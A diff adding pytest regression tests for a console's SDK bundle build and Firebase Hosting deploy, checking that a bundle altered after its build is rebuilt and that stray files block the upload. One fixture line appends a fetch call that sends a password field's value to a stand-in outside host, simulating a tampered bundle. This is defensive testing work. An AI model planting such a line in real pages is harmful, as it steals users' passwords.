@@ -1,0 +1,131 @@
+"""What Hosting is given: the SDK bundle as its pinned inputs make it, and the console's files alone (attack run 124).
+
+The bundle is built by a stand-in for npm and esbuild (``npm ci`` puts an ``esbuild`` in ``node_modules/.bin`` that
+writes what it was asked to bundle), so the script's decisions are tested without a registry."""
+
+from __future__ import annotations
+
+import os
+import shlex
+import shutil
+import stat
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from infra import hosting_site
+
+REPO = Path(__file__).resolve().parents[2]
+BUILT = "bundled by the pinned esbuild\n"
+FAKE_ESBUILD = f"""#!/bin/sh
+for arg in "$@"; do case "$arg" in --outfile=*) printf '{BUILT.strip()}\\n' > "${{arg#--outfile=}}" ;; esac; done
+"""
+FAKE_NPM = f"""#!/bin/sh
+echo run >> "$NPM_RUNS"
+mkdir -p node_modules/.bin
+cat > node_modules/.bin/esbuild <<'ESBUILD'
+{FAKE_ESBUILD}ESBUILD
+chmod +x node_modules/.bin/esbuild
+"""
+
+
+@pytest.fixture
+def checkout(tmp_path: Path) -> Path:
+    """The console's build script and pinned inputs, in a folder of their own, with a stand-in npm on the PATH."""
+    repo = tmp_path / "repo"
+    shutil.copytree(REPO / "infra" / "console", repo / "infra" / "console")
+    (repo / "infra" / "hosting").mkdir(parents=True)
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "npm").write_text(FAKE_NPM)
+    (bin_dir / "npm").chmod(stat.S_IRWXU)
+    return repo
+
+
+def run_build(repo: Path, *args: str) -> int:
+    """The script's exit status; how many times it ran npm is in ``npm-runs``."""
+    tmp = repo.parent
+    env = {
+        **os.environ,
+        "PATH": f"{tmp / 'bin'}:{os.environ['PATH']}",
+        "LOCKWISE_TOOLS_HOME": str(tmp / "tools"),
+        "NPM_RUNS": str(tmp / "npm-runs"),
+    }
+    script = repo / "infra" / "console" / "build.sh"
+    done = subprocess.run(["bash", str(script), *args], env=env, capture_output=True, text=True, timeout=60)
+    return done.returncode
+
+
+def npm_runs(repo: Path) -> int:
+    runs = repo.parent / "npm-runs"
+    return len(runs.read_text().splitlines()) if runs.exists() else 0
+
+
+def test_an_sdk_bundle_changed_after_its_build_is_built_again(checkout: Path) -> None:
+    """Attack run 124: the bundle's stamp named the inputs it was made from, not the bytes made, and the bundle is
+    git-ignored: a vendor/firebase.js edited or replaced after its build (a debugging build, a patched SDK reading the
+    password box) was taken as current by ./dev and by the deploy, and uploaded to Hosting under any release."""
+    bundle = checkout / "infra" / "hosting" / "vendor" / "firebase.js"
+    assert run_build(checkout) == 0 and bundle.read_text() == BUILT and npm_runs(checkout) == 1
+    assert run_build(checkout) == 0 and npm_runs(checkout) == 1  # current: nothing done
+    bundle.write_text(BUILT + "fetch('https://elsewhere.example/?p=' + password.value)\n")
+    assert run_build(checkout) == 0
+    assert bundle.read_text() == BUILT and npm_runs(checkout) == 2
+    bundle.unlink()
+    (bundle.parent / "firebase.js.sha256").unlink()
+    assert run_build(checkout) == 0 and bundle.read_text() == BUILT and npm_runs(checkout) == 3
+
+
+def test_the_deploy_bundles_the_sdk_afresh_and_uploads_the_console_alone(checkout: Path) -> None:
+    """The deploy's Hosting step makes the bundle again from the pinned versions whatever a stamp says (a stamp and a
+    bundle rewritten together pass any check of one against the other), then checks the site holds the console's
+    files alone, before firebase-tools uploads it."""
+    assert run_build(checkout) == 0 and npm_runs(checkout) == 1
+    assert run_build(checkout, "--fresh") == 0 and npm_runs(checkout) == 2
+    assert run_build(checkout, "--anything") == 2 and npm_runs(checkout) == 2
+    args = ["firebase", "--project", "lockwise-prod", "--region", "europe-west1", "--dry-run"]
+    planned = subprocess.run(
+        [sys.executable, "-m", "infra.deploy", *args], cwd=REPO, capture_output=True, text=True, timeout=60, check=True
+    )
+    steps = [shlex.split(line) for line in planned.stdout.splitlines() if line.strip()]
+    assert steps[0] == ["bash", str(REPO / "infra" / "console" / "build.sh"), "--fresh"]
+    assert steps[1] == [sys.executable, "-m", "infra.hosting_site"]
+    assert steps[2][1] == "deploy" and len(steps) == 3
+
+
+@pytest.mark.parametrize(
+    "stray",
+    [
+        "vendor/firebase.js.orig",  # vendor/ is git-ignored: no release, diff or status names it
+        "vendor/firebase.debug.js",
+        "backup.tar.gz",
+        "notes/customers.csv",
+    ],
+)
+def test_a_file_that_is_not_the_consoles_stops_the_upload_by_name(tmp_path: Path, stray: str) -> None:
+    """Attack run 124: firebase-tools uploads every file of infra/hosting its ignore rules leave in, so anything left
+    there but hidden files, maps, stamps and logs was served from the site."""
+    site = tmp_path / "site"
+    for name in (*hosting_site.SERVED, "vendor/firebase.js.sha256", ".gitignore", "vendor/.app.js.swp"):
+        (site / name).parent.mkdir(parents=True, exist_ok=True)
+        (site / name).write_text("console\n")
+    assert hosting_site.problems(site) == []
+    assert hosting_site.main([str(site)]) == 0
+    (site / stray).parent.mkdir(parents=True, exist_ok=True)
+    (site / stray).write_text("not the console\n")
+    assert hosting_site.problems(site) == [f"{stray} is not the console's"]
+    assert hosting_site.main([str(site)]) == 1
+    (site / stray).unlink()
+    (site / "vendor" / "firebase.js").unlink()
+    assert hosting_site.problems(site) == ["vendor/firebase.js is missing"]
+
+
+def test_the_checkouts_site_is_the_console_alone() -> None:
+    """What the repository's site holds is the list (the SDK bundle as ./dev test's setup made it)."""
+    tracked = subprocess.run(
+        ["git", "-C", str(REPO), "ls-files", "infra/hosting"], capture_output=True, text=True, check=True
+    ).stdout.split()
+    shown = {name.removeprefix("infra/hosting/") for name in tracked if "/." not in f"/{name}"}
+    assert shown == set(hosting_site.SERVED) - {"vendor/firebase.js"}
